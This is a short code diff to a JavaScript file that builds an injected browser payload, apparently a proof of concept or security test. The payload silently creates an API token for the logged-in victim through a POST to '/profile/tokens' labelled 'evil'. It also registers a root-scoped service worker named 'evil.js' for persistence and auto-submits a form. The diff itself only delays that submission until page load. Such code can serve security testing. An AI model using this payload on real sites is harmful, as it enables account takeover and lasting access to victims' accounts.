@@ -26,7 +26,7 @@ const script = () => `
   fetch('/profile/tokens', { method: 'POST', body:
     new URLSearchParams({ description: 'evil', read: 'on' }) });
   navigator.serviceWorker?.register('/F/demo/evil.js', { scope: '/' });
-  document.forms[0]?.submit();`;
+  addEventListener('load', () => document.forms[0]?.submit());`;
 
 const form = `
   <form method="post" action="/profile/tokens">
